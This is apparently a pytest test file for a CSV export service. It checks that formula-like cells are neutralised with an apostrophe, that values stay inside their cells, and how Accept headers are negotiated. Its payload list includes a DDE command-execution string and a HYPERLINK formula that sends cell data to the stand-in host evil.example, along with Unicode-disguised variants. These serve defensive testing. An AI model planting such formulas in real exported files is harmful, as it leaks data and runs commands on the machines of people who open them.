"""S24: no text that somebody wrote is taken for a formula by the spreadsheet that opens a list."""

import csv
from io import StringIO

import pytest

from services.http.csv import cell, table, wants_csv

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"Ada")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "  =1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "\u3000=1+1",
]


def read(body: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(body.decode(), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_s24_what_begins_like_a_formula_is_text(text: str) -> None:
    [[header], [shown]] = read(table(["name"], [[text]]))
    assert (header, shown) == ("name", f"'{text}")


@pytest.mark.parametrize("text", ['a "quoted" name', "Ada, of Leeds", "two\r\nlines", " around ", "a;b", "Zoë", ""])
def test_s24_every_other_text_is_read_back_as_it_was(text: str) -> None:
    assert read(table(["name", "next"], [[text, "x"]])) == [["name", "next"], [text, "x"]]


@pytest.mark.parametrize("text", ['x","=1+1', 'x"\r\n=1+1,"', "x\r\n=1+1"])
def test_s24_nothing_breaks_out_of_its_cell(text: str) -> None:
    assert read(table(["name"], [[text]])) == [["name"], [text]]


def test_s24_numbers_stay_numbers() -> None:
    assert [cell(each) for each in (-5, -0.5, 7, True, False, None)] == ["-5", "-0.5", "7", "true", "false", ""]


def test_s24_the_header_is_text_too() -> None:
    assert table(["=name"], []) == b'"\'=name"\r\n'


@pytest.mark.parametrize(
    ("accept", "wanted"),
    [
        (None, False),
        ("*/*", False),
        ("application/json", False),
        ("text/csv", True),
        ("TEXT/CSV; charset=utf-8", True),
        ("text/csv;q=0.5, application/json", False),
        ("application/json;q=0.5, text/csv", True),
        ("application/json, text/csv", False),
        ("text/csv, application/json", True),
        ("text/csv;q=0", False),
        ("text/csv;q=nonsense", False),
    ],
)
def test_csv_is_given_to_whoever_names_it(accept: str | None, wanted: bool) -> None:
    assert wants_csv(accept) is wanted
